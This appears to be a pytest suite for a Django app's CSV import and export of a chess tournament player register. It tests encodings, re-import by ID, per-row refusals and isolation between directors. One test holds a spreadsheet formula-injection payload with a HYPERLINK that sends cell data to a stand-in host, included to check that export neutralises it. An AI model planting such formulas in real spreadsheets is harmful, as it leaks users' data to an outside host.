"""The register's CSV export and import (issue 24; docs/register.md, «Импорт и экспорт
реестра»): the round trip in UTF-8 and Windows-1251, a re-import by ID updating without
duplicates, every refusal naming its line, column and rule with nothing written, nobody
else's register, formula cells neutralised; and the «Отчество» column of the players'
import."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from events.models import Entry, Person, PersonAlias, PersonIdentifier
from events.register.merging import person_merge

pytestmark = pytest.mark.django_db

HEADER = "ID;Фамилия;Имя;Отчество;Клуб;Клубная карта;Номер ФСПР;Скрыт"


def _person(owner, last, first, patronymic="", club="", hidden=False, **ids):
    person = Person.objects.create(
        owner=owner,
        last_name=last,
        first_name=first,
        patronymic=patronymic,
        club=club,
        hidden=hidden,
    )
    for kind, values in ids.items():
        for value in values.split(","):
            PersonIdentifier.objects.create(person=person, kind=kind, value=value)
    return person


@pytest.fixture
def register(director, other_director):
    semenov = _person(director, "Семёнов", "Пётр", "Ильич", "ЦДШ", club_card="77,78")
    vodkin = _person(director, "Петров-Водкин", "Кузьма", club="Тула", federation="F-1")
    hidden = _person(director, "Ёлкин", "Ёжик", hidden=True)
    foreign = _person(other_director, "Чужой", "Человек", club="Где-то", club_card="99")
    return semenov, vodkin, hidden, foreign


def _state(owner):
    """The register as a comparable value: persons, their numbers, nothing else."""
    return sorted(
        (
            p.pk,
            p.last_name,
            p.first_name,
            p.patronymic,
            p.club,
            p.hidden,
            tuple(sorted(p.identifiers.values_list("kind", "value"))),
        )
        for p in Person.objects.filter(owner=owner)
    )


def _export(client, encoding=None):
    url = reverse("director:register_export")
    return client.get(url, {"encoding": encoding} if encoding else {})


def _preview(client, data: bytes, name="реестр.csv"):
    return client.post(
        reverse("director:register_import"), {"file": SimpleUploadedFile(name, data)}
    )


def _confirm(client, text, **choices):
    return client.post(reverse("director:register_import_confirm"), {"text": text, **choices})


def _rows(body: bytes, encoding: str):
    return list(csv.reader(io.StringIO(body.decode(encoding)), delimiter=";"))


# --- export ---------------------------------------------------------------------------------


def test_the_export_holds_the_directors_own_register_in_utf8_with_a_bom(director_client, register):
    semenov, vodkin, hidden, _foreign = register
    response = _export(director_client)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert response.content.startswith("\ufeff".encode())
    rows = _rows(response.content, "utf-8-sig")
    assert rows[0] == HEADER.split(";")
    assert rows[1:] == [
        [str(hidden.pk), "Ёлкин", "Ёжик", "", "", "", "", "да"],
        [str(vodkin.pk), "Петров-Водкин", "Кузьма", "", "Тула", "", "F-1", "нет"],
        [str(semenov.pk), "Семёнов", "Пётр", "Ильич", "ЦДШ", "77, 78", "", "нет"],
    ]
    assert "Чужой" not in response.content.decode("utf-8-sig")


def test_the_export_in_windows_1251_has_no_bom_and_keeps_yo(director_client, register):
    response = _export(director_client, "cp1251")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=windows-1251"
    assert not response.content.startswith(b"\xef\xbb\xbf")
    assert "Семёнов".encode("cp1251") in response.content
    rows = _rows(response.content, "cp1251")
    assert rows[0] == HEADER.split(";")


def test_an_unknown_encoding_is_a_400_naming_it(director_client, register):
    response = _export(director_client, "koi8-r")
    assert response.status_code == 400
    assert "encoding" in response.content.decode() and "koi8-r" in response.content.decode()


def test_windows_1251_refuses_a_name_it_has_no_letters_for_naming_him(director_client, director):
    person = _person(director, "Łukasz", "Ōta")
    response = _export(director_client, "cp1251")
    assert response.status_code == 302
    page = director_client.get(response["Location"]).content.decode()
    assert f"Łukasz Ōta (ID {person.pk})" in page and "UTF-8" in page


def test_a_formula_cell_is_neutralised_and_comes_back_as_written(director_client, director):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    person = _person(director, evil, "+1", club="@SUM(A1)")
    body = _export(director_client).content
    row = _rows(body, "utf-8-sig")[1]
    assert row[1:5] == ["'" + evil, "+1", "", "'@SUM(A1)"]  # «+1» is a plain number
    before = _state(director)
    text = body.decode("utf-8-sig")
    assert _preview(director_client, body).status_code == 200
    assert _confirm(director_client, text).status_code == 302
    assert _state(director) == before
    person.refresh_from_db()
    assert (person.last_name, person.first_name, person.club) == (evil, "+1", "@SUM(A1)")


def test_nobody_exports_or_imports_anonymously(client, register):
    for response in (
        _export(client),
        client.get(reverse("director:register_import")),
        _confirm(client, HEADER + "\n;Новый;Человек;;;;;\n"),
    ):
        assert response.status_code == 302 and "/login/" in response["Location"]
    assert not Person.objects.filter(last_name="Новый").exists()


# --- the round trip -------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", [None, "cp1251"])
def test_export_then_import_leaves_the_register_as_it_was(
    director_client, director, other_director, register, encoding
):
    before, theirs = _state(director), _state(other_director)
    body = _export(director_client, encoding).content
    response = _preview(director_client, body)
    page = response.content.decode()
    assert response.status_code == 200
    assert ("Windows-1251" if encoding else "UTF-8") in page
    assert page.count('register-update">без изменений: ') == 3
    text = response.context["confirm"]["text"].value()
    response = _confirm(director_client, text)
    assert response.status_code == 302
    assert _state(director) == before and _state(other_director) == theirs


def test_a_reimport_by_id_updates_and_creates_no_duplicates(director_client, director, register):
    semenov, vodkin, hidden, _foreign = register
    text = _export(director_client).content.decode("utf-8-sig")
    text = text.replace(";ЦДШ;77, 78;", ";Спартак;78, 80;").replace(";да\r\n", ";нет\r\n")
    text += ";Семенов;Пётр;Ильич;Спартак;;;\r\n"  # a new spelling, found as the person
    response = _preview(director_client, text.encode("cp1251"))
    page = response.content.decode()
    assert "обновление: Семёнов Пётр Ильич" in page
    assert "Клуб: ЦДШ → Спартак" in page and "Клубная карта: 77, 78 → 78, 80" in page
    assert "Скрыт: да → нет" in page
    # The new row looks like Семёнов (another club: «several»), whom line 4 updates: he
    # is chosen once at most.
    assert "register-several" in page
    response = _confirm(director_client, text, person_3=str(semenov.pk))
    assert response.status_code == 200
    assert "тот же человек, что в строке 4" in response.content.decode()
    assert Person.objects.get(pk=semenov.pk).club == "ЦДШ"  # nothing written
    text = text.rsplit(";Семенов", 1)[0]
    assert _confirm(director_client, text).status_code == 302
    assert Person.objects.filter(owner=director).count() == 3
    semenov.refresh_from_db()
    hidden.refresh_from_db()
    assert semenov.club == "Спартак" and not hidden.hidden
    assert sorted(semenov.identifiers.values_list("value", flat=True)) == ["78", "80"]
    assert PersonAlias.objects.filter(person=semenov, club="Спартак").exists()
    # And again: nothing changes the second time.
    before = _state(director)
    assert _confirm(director_client, text).status_code == 302
    assert _state(director) == before


def test_a_row_without_id_is_matched_and_chosen_as_in_the_players_import(
    director_client, director, register
):
    semenov, vodkin, *_rest = register
    _person(director, "Иванов", "Иван", "Иванович")
    _person(director, "Иванов", "Иван", "Петрович")
    text = (
        "Фамилия;Имя;Отчество;Клуб;Клубная карта\n"
        "семенов;петр;ильич;цдш;\n"  # found by the name
        "Кто-то;Другой;;;F-1x\n"  # new
        "Иванов;Иван;;;\n"  # several: two Ивановы with patronymics
        "Иванов;Иван;Петрович;;\n"  # found: the patronymic tells the two men apart
        "Сидоров;Сидор;;;78\n"  # found by Семёнов's club card… and also line 2's person
    )
    response = _preview(director_client, text.encode())
    page = response.content.decode()
    assert "найден: Семёнов Пётр Ильич (ЦДШ)" in page
    assert "несколько похожих" in page and "найден: Иванов Иван Петрович" in page
    # Lines 4 and 5 unchosen (a person found is sent by its select too), line 6 «new» with
    # Семёнов's card: refused, nothing written, the choices made kept.
    response = _confirm(director_client, text, person_0=str(semenov.pk), person_4="new")
    page = response.content.decode()
    assert response.status_code == 200
    assert "Строки 4, 5, 6 не дают импортировать" in page
    assert '<option value="new" selected>' in page
    assert not Person.objects.filter(last_name__in=["Кто-то", "Сидоров"]).exists()
    petrovich = Person.objects.get(patronymic="Петрович")
    response = _confirm(
        director_client,
        text,
        person_0=str(semenov.pk),
        person_2="new",
        person_3=str(petrovich.pk),
        person_4=str(semenov.pk),
    )
    assert "тот же человек, что в строке 2" in response.content.decode()
    response = _confirm(
        director_client,
        text.replace(";78\n", ";\n"),
        person_0=str(semenov.pk),
        person_2="new",
        person_3=str(petrovich.pk),
    )
    assert response.status_code == 302
    assert Person.objects.filter(owner=director, last_name="Иванов").count() == 3
    assert PersonAlias.objects.filter(person=semenov, last_name="семенов").exists()
    assert PersonAlias.objects.filter(person=petrovich, patronymic="Петрович").exists()
    newcomer = Person.objects.get(last_name="Кто-то")
    assert list(newcomer.identifiers.values_list("kind", "value")) == [("club_card", "F-1x")]
    semenov.refresh_from_db()
    assert semenov.last_name == "Семёнов"  # a spelling found keeps the person's names


# --- refusals -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("row", "column", "rule"),
    [
        (";;Имя;;;;;", "«Фамилия»", "пусто, а этот столбец обязателен"),
        (";Фамилия;;;;;;", "«Имя»", "пусто, а этот столбец обязателен"),
        (";" + "Я" * 101 + ";Имя;;;;;", "«Фамилия»", "длиннее 100 символов"),
        (";Ф;И;;" + "К" * 101 + ";;;", "«Клуб»", "длиннее 100 символов"),
        (";Ф;И;;;" + "1" * 41 + ";;", "«Клубная карта»", "111111111111… длиннее 40 символов"),
        ("VODKIN;Ф;И;;;99;;", "«Клубная карта»", "99 принадлежит: Семёнов Пётр Ильич (ЦДШ) (ID"),
        ("SEMENOV;Ф;И;;;;F-1;", "«Номер ФСПР»", "F-1 принадлежит: Петров-Водкин Кузьма (Тула) (ID"),
        ("abc;Ф;И;;;;;", "«ID»", "«abc» — не целое положительное число"),
        ("999999;Ф;И;;;;;", "«ID»", "в вашем реестре нет человека с ID 999999"),
        ("FOREIGN;Ф;И;;;;;", "«ID»", "в вашем реестре нет человека с ID"),
        (";Ф;И;;;;;может быть", "«Скрыт»", "«может быть» — ни «да», ни «нет»"),
    ],
)
def test_each_error_names_its_line_column_and_rule_and_nothing_is_written(
    director_client, director, other_director, register, row, column, rule
):
    semenov, vodkin, _hidden, foreign = register
    # «99» is Семёнов's here (and the foreign person's in his own register: no matter).
    PersonIdentifier.objects.create(person=semenov, kind="club_card", value="99")
    row = row.replace("FOREIGN", str(foreign.pk)).replace("VODKIN", str(vodkin.pk))
    row = row.replace("SEMENOV", str(semenov.pk))
    text = f"{HEADER}\n;Новый;Человек;;;;;\n{row}\n"
    before, theirs = _state(director), _state(other_director)
    response = _preview(director_client, text.encode())
    page = response.content.decode()
    assert response.status_code == 200
    problems = page.split('id="register-problems"')[1].split("</ul>")[0]
    assert f"Строка 3, {column}: {rule}" in problems
    assert "confirm-register-import" not in page  # no «Импортировать» to press
    response = _confirm(director_client, text)
    assert response.status_code == 200
    assert "Строки 3 не дают импортировать" in response.content.decode()
    assert _state(director) == before and _state(other_director) == theirs


def test_rows_repeating_an_id_a_number_or_a_new_person_are_refused(director_client, register):
    semenov = register[0]
    text = (
        f"{HEADER}\n{semenov.pk};Семёнов;Пётр;Ильич;ЦДШ;77;;\n{semenov.pk};Семёнов;Пётр;;;;;\n"
        ";Новый;Один;;;55;;\n;Новый;Два;;;55;;\n;Тот;Же;;;;;\n;тот;же;;;;;\n"
    )
    page = _preview(director_client, text.encode()).content.decode()
    assert f"Строка 3, «ID»: ID {semenov.pk} повторяет строку 2" in page
    assert "Строка 5, «Клубная карта»: 55 повторяет строку 4" in page
    assert "Строка 7, «Фамилия»: то же имя и клуб, что в строке 6" in page


def test_a_number_moved_between_two_persons_in_one_file_is_no_conflict(
    director_client, director, register
):
    semenov, vodkin, *_rest = register
    text = f"ID;Фамилия;Имя;Клубная карта\n{semenov.pk};Семёнов;Пётр;78\n{vodkin.pk};Петров-Водкин;Кузьма;77\n"
    page = _preview(director_client, text.encode()).content.decode()
    assert "register-problems" not in page
    assert _confirm(director_client, text).status_code == 302
    assert list(semenov.identifiers.values_list("value", flat=True)) == ["78"]
    assert list(vodkin.identifiers.values_list("value", flat=True)) == ["77", "F-1"]
    semenov.refresh_from_db()
    assert semenov.patronymic == "Ильич" and semenov.club == "ЦДШ"  # columns left out kept


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "файл пуст"),
        ("Фамилия;Имя;Номер\nА;Б;1\n".encode(), "Неизвестные столбцы: «Номер»"),
        ("Фамилия;Клуб\nА;Б\n".encode(), "нужны столбцы «Фамилия» и «Имя»"),
        ("Фамилия;Имя\n".encode(), "нет ни одного человека"),
        (b"\x00\x01\x02binary", "символ NUL"),
        (b"\xff\x00\x98", "не является текстом"),
        (b"x" * 1_000_001, "больше 1 МБ"),
    ],
)
def test_an_unusable_file_is_refused_on_the_file_field(director_client, data, message):
    response = _preview(director_client, data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert "director/register_import.html" in [t.name for t in response.templates]


def test_another_directors_ids_are_not_his_to_update(other_client, register, director):
    semenov = register[0]
    text = f"{HEADER}\n{semenov.pk};Взлом;Взлом;;;;;\n"
    page = _preview(other_client, text.encode()).content.decode()
    assert f"в вашем реестре нет человека с ID {semenov.pk}" in page
    assert "Семёнов" not in page
    assert _confirm(other_client, text).status_code == 200
    semenov.refresh_from_db()
    assert semenov.last_name == "Семёнов"
    rows = _rows(_export(other_client).content, "utf-8-sig")
    assert [r[1] for r in rows[1:]] == ["Чужой"]


def test_the_register_list_links_the_files(director_client, register):
    page = director_client.get(reverse("director:register_list")).content.decode()
    assert "Импорт CSV" in page and "Экспорт CSV" in page
    assert reverse("director:register_import") in page
    assert reverse("director:register_export") + "?encoding=cp1251" in page


# --- «Отчество» in the players' import ------------------------------------------------------


def test_the_players_import_matches_by_patronymic_two_men_of_one_name(
    director_client, director, event
):
    ivanovich = _person(director, "Иванов", "Иван", "Иванович", "ЦДШ")
    petrovich = _person(director, "Иванов", "Иван", "Петрович", "ЦДШ")
    text = "Фамилия;Имя;Отчество;Клуб\nИванов;Иван;Петрович;ЦДШ\nИванов;Иван;Иванович;ЦДШ\n"
    response = director_client.post(
        reverse("director:entries_import", args=[event.pk]),
        {"file": SimpleUploadedFile("игроки.csv", text.encode("cp1251"))},
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "найден: Иванов Иван Петрович (ЦДШ)" in page
    assert "найден: Иванов Иван Иванович (ЦДШ)" in page
    assert "register-several" not in page and "problems" not in page.split('id="preview"')[1]
    response = director_client.post(
        reverse("director:entries_import_confirm", args=[event.pk]),
        {
            "text": text,
            "source": "csv",
            "person_0": str(petrovich.pk),
            "person_1": str(ivanovich.pk),
        },
    )
    assert response.status_code == 302
    linked = dict(Entry.objects.filter(event=event).values_list("person_id", "first_name"))
    assert linked == {petrovich.pk: "Иван", ivanovich.pk: "Иван"}  # the entry: no patronymic
    assert '<span class="help" title="Отчество">Петрович</span>' in page
    assert PersonAlias.objects.filter(person=petrovich, patronymic="Петрович").exists()


def test_the_players_import_keeps_the_patronymic_on_a_new_person(director_client, director, event):
    text = "Фамилия;Имя;Отчество\nСидоров;Сидор;Сидорович\n"
    response = director_client.post(
        reverse("director:entries_import_confirm", args=[event.pk]),
        {"text": text, "source": "csv"},
    )
    assert response.status_code == 302
    entry = Entry.objects.get(event=event)
    assert (entry.last_name, entry.first_name) == ("Сидоров", "Сидор")
    assert entry.person.full_name == "Сидоров Сидор Сидорович"
    assert entry.person.aliases.get().patronymic == "Сидорович"


def test_a_patronymic_too_long_in_the_players_import_is_a_row_problem(director_client, event):
    text = "Фамилия;Имя;Отчество\nСидоров;Сидор;" + "С" * 101 + "\n"
    response = director_client.post(
        reverse("director:entries_import", args=[event.pk]),
        {"file": SimpleUploadedFile("игроки.csv", text.encode())},
    )
    assert "отчество длиннее 100 символов" in response.content.decode().lower()


def test_a_merged_person_is_no_row_and_his_id_names_the_person_kept(
    director_client, director, register
):
    semenov, vodkin, *_rest = register
    person_merge(semenov, vodkin, by_user=director)
    rows = _rows(_export(director_client).content, "utf-8-sig")
    assert str(vodkin.pk) not in [r[0] for r in rows[1:]] and len(rows) == 3
    assert [r[6] for r in rows[1:] if r[0] == str(semenov.pk)] == ["F-1"]
    text = f"{HEADER}\n{vodkin.pk};Петров-Водкин;Кузьма;;Тула;;;\n"
    page = _preview(director_client, text.encode()).content.decode()
    assert (
        f"Строка 2, «ID»: ID {vodkin.pk} объединён с Семёнов Пётр Ильич (ЦДШ) (ID {semenov.pk}): "
        "используйте этот ID"
    ) in page


def test_the_pages_and_the_file_in_english_have_no_russian_but_names(director_client, director):
    from tests.test_english_pages import CYRILLIC, visible_text

    names = ("Иванов", "Пётр", "Тула", "реестр.csv")
    _person(director, names[0], names[1], club=names[2])
    assert (
        director_client.post("/i18n/setlang/", {"language": "en", "next": "/"}).status_code == 302
    )
    body = _export(director_client).content.decode("utf-8-sig")
    assert body.splitlines()[0] == (
        "ID;Last name;First name;Patronymic;Club;Club card;Federation number;Hidden"
    )
    texts = [body]
    for response in (
        director_client.get(reverse("director:register_list")),
        director_client.get(reverse("director:register_import")),
        _preview(director_client, body.encode()),
        _preview(director_client, b"Last name;First name;Hidden\nX;;maybe\n;Y;\n"),
        _preview(director_client, b"Nom;Prenom\nX;Y\n"),
        _confirm(director_client, "Last name;First name\nIvanov;Ivan\nIvanov;Ivan\n"),
    ):
        assert response.status_code in (200, 400)  # a file refused on its field: 400
        texts.append(visible_text(response.content.decode()))
    for text in texts:
        for name in names:
            text = text.replace(name, "")
        assert not CYRILLIC.search(text), [
            line for line in text.splitlines() if CYRILLIC.search(line)
        ]


def test_a_file_of_2000_rows_is_written_in_bulk_and_read_back(director):
    """2,000 new persons with a club card each: a few dozen queries (not one per row); the
    export read back with the card column emptied takes every card away."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from events.register import io as register_io

    text = "Фамилия;Имя;Клуб;Клубная карта\n"
    text += "".join(f"Ф{n};И{n};К{n % 7};{n}\n" for n in range(2000))
    rows = register_io.parse(text)
    matches = register_io.check(director, rows)
    register_io.read_choices(rows, matches, {})
    with CaptureQueriesContext(connection) as queries:
        done = register_io.import_rows(director, rows, matches)
    assert done.created == 2000 and len(queries) < 60
    assert PersonIdentifier.objects.filter(owner=director).count() == 2000
    assert PersonAlias.objects.filter(person__owner=director).count() == 2000

    persons = Person.objects.filter(owner=director).prefetch_related("identifiers")
    lines = register_io.export_bytes(persons, "utf-8").decode("utf-8-sig").splitlines()
    emptied = [lines[0]] + [
        ";".join([*line.split(";")[:5], "", *line.split(";")[6:]]) for line in lines[1:]
    ]
    rows = register_io.parse("\n".join(emptied))
    matches = register_io.check(director, rows)
    assert not register_io.refusals(rows, matches)
    assert register_io.import_rows(director, rows, matches).updated == 2000
    assert not PersonIdentifier.objects.filter(owner=director).exists()
    assert Person.objects.filter(owner=director).count() == 2000
